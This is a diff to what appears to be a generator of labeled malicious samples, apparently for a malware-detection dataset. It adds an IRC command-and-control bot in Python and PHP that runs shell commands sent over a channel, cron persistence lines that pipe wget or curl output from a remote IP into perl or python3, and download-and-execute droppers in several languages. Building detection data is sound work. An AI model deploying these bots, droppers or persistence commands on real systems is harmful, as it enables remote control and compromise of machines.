@@ -134,6 +134,43 @@ def t_php_irc_bot(g):
     return _php_head(r) + pre + conn + reg + join + body
 
 
+def t_irc_dispatch(g):
+    """IRC bots whose orders go through a parser: Python splitting the line and
+    joining the arguments into a command, a PHP class dispatching to cmd_* methods."""
+    r = g.rng
+    s, f, p, o = _names(r, 4)
+    v = {"s": s, "f": f, "p": p, "o": o, "h": r.choice(["irc.example.invalid", _ip(r)]),
+         "n": r.choice(["py", "zz", "u"]) + str(r.randint(10, 99)), "ch": r.choice(["#a", "#ops2", "#z"]),
+         "t": r.choice([".run", "!x", "@sh"])}
+    if r.random() < 0.5:
+        g.lang = "py"
+        run = r.choice(["subprocess.getoutput(\" \".join(%(p)s[4:]))",
+                        "os.popen(' '.join(%(p)s[4:])).read()",
+                        "subprocess.check_output(' '.join(%(p)s[4:]), shell=True).decode()"]) % v
+        return ("#!/usr/bin/env python3\nimport socket, subprocess, os\n"
+                "%(s)s = socket.socket()\n%(s)s.connect((\"%(h)s\", 6667))\n"
+                "%(s)s.send(b\"NICK %(n)s\\r\\n\")\n%(s)s.send(b\"USER %(n)s 0 * :%(n)s\\r\\n\")\n"
+                "%(s)s.send(b\"JOIN %(ch)s\\r\\n\")\n%(f)s = %(s)s.makefile(\"r\", encoding=\"latin-1\")\n"
+                "for raw in %(f)s:\n    %(p)s = raw.split()\n"
+                "    if %(p)s and %(p)s[0] == \"PING\":\n        %(s)s.send((\"PONG \" + %(p)s[1] + \"\\r\\n\").encode())\n"
+                "    elif len(%(p)s) > 4 and %(p)s[1] == \"PRIVMSG\" and %(p)s[3] == \":%(t)s\":\n"
+                "        %(o)s = RUN\n        for ln in %(o)s.splitlines():\n"
+                "            %(s)s.send((\"PRIVMSG %(ch)s :\" + ln + \"\\r\\n\").encode())\n" % v).replace("RUN", run)
+    g.lang = "php"
+    return ("<?php\nclass %(o)s {\n    private $s;\n"
+            "    function cmd_sh($a) { return shell_exec(trim($a)); }\n"
+            "    function cmd_get($a) { list($u, $f) = explode(' ', $a); return copy($u, $f) ? 'ok' : 'fail'; }\n"
+            "    function send($l) { fwrite($this->s, $l . \"\\r\\n\"); }\n    function run() {\n"
+            "        $this->s = fsockopen('%(h)s', 6667);\n        $this->send('NICK %(n)s');\n"
+            "        $this->send('USER %(n)s 0 * :x');\n        $this->send('JOIN %(ch)s');\n"
+            "        while (!feof($this->s)) {\n            $l = fgets($this->s);\n"
+            "            if (substr($l, 0, 4) == 'PING') { $this->send('PONG' . substr($l, 4)); continue; }\n"
+            "            if (preg_match('/ PRIVMSG (#\\S+) :\\.(\\w+) (.*)$/', trim($l), $m) && method_exists($this, 'cmd_' . $m[2])) {\n"
+            "                $r = call_user_func(array($this, 'cmd_' . $m[2]), $m[3]);\n"
+            "                $this->send(\"PRIVMSG $m[1] :\" . $r);\n            }\n        }\n    }\n}\n"
+            "(new %(o)s)->run();\n" % v)
+
+
 # ---------------------------------------------------------------------------
 # UDP flooders
 
@@ -242,6 +279,8 @@ def t_cron_persist(g):
         "/tmp/.X11-unix/.%s" % r.choice(["x", "sshd", "kd"]),
         "$HOME/.cache/.%s >/dev/null 2>&1" % r.choice(["upd", "sys"]),
         "cd /dev/shm && ./.%s" % r.choice(["k", "i"]),
+        "wget -q -O - http://%s/p | perl" % ip,
+        "curl -s http://%s/x.py | python3 -" % ip,
         "(wget -qO /tmp/.u http://%s/u || curl -so /tmp/.u http://%s/u) && chmod +x /tmp/.u && /tmp/.u" % (ip, ip),
     ])
     when = r.choice(["* * * * *", "*/5 * * * *", "@reboot", "*/15 * * * *", "0 * * * *"])
@@ -261,6 +300,9 @@ def t_cron_persist(g):
         "#!/usr/bin/perl\nopen(my $c, '|-', 'crontab -') or die;\nprint $c `crontab -l 2>/dev/null`;\n"
         "print $c \"%(t)s %(w)s\\n\";\nclose $c;\n",
         "#!/bin/sh\necho '%(t)s %(w)s' >> /var/spool/cron/crontabs/$(whoami)\n",
+        "#!/bin/sh\n(crontab -l; echo \"%(t)s %(w)s\") | crontab -; echo ok\n",
+        "#!/bin/sh\nprintf '%%s\\n' '%(t)s %(w)s' > /tmp/.ct && crontab -u $(id -un) /tmp/.ct\n",
+        "#!/usr/bin/perl\nsystem(\"(crontab -l 2>/dev/null; echo '%(t)s %(w)s') | crontab -\");\n",
     ])
     g.lang = "php" if code.startswith("<?php") else ("py" if "python" in code else ("pl" if "perl" in code else "sh"))
     return code % v
@@ -296,6 +338,12 @@ def t_dropper(g):
         "exec($%(a)s . ' > /dev/null 2>&1 &');\n@unlink($%(a)s);\n",
         "<?php\n$%(b)s = sys_get_temp_dir() . '/.%(a)s';\ncopy('%(u)s', $%(b)s);\n@chmod($%(b)s, 0777);\n"
         "shell_exec('nohup ' . $%(b)s . ' >/dev/null 2>&1 &');\n",
+        "#!/bin/sh\nwget -q -O %(f)s %(u)s\nchmod +x %(f)s\n%(f)s\n",
+        "<?php\n$%(b)s = '%(u)s';\n$%(a)s = file_get_contents($%(b)s);\nfile_put_contents('%(f)s', $%(a)s);\n"
+        "chmod('%(f)s', 0755);\nsystem('%(f)s');\n",
+        "#!/usr/bin/perl\nuse LWP::Simple;\ngetstore('%(u)s', '%(f)s');\nchmod 0755, '%(f)s';\nexec '%(f)s';\n",
+        "#!/usr/bin/env python3\nimport urllib.request as u, os, subprocess\nu.urlretrieve('%(u)s', '%(f)s')\n"
+        "os.system('chmod 755 %(f)s')\nsubprocess.call(['%(f)s'])\n",
         "#!/usr/bin/env python3\nimport requests, os, stat, subprocess\np = '%(f)s'\n"
         "open(p, 'wb').write(requests.get('%(u)s', verify=False).content)\n"
         "os.chmod(p, os.stat(p).st_mode | stat.S_IEXEC)\nsubprocess.Popen(['nohup', p], start_new_session=True)\n",
@@ -448,6 +496,7 @@ def _lang_of(fn):
 # name, function, class, extension ("auto": the template sets g.lang), expectation
 BOT_TEMPLATES = [
     ("php_irc_bot", t_php_irc_bot, "malicious", "php", "high"),
+    ("irc_dispatch", t_irc_dispatch, "malicious", "auto", "high"),
     ("udp_flood", t_udp_flood, "malicious", "auto", "high"),
     ("sshkey_persist", t_sshkey_persist, "malicious", "auto", "high"),
     ("cron_persist", t_cron_persist, "malicious", "auto", "high"),
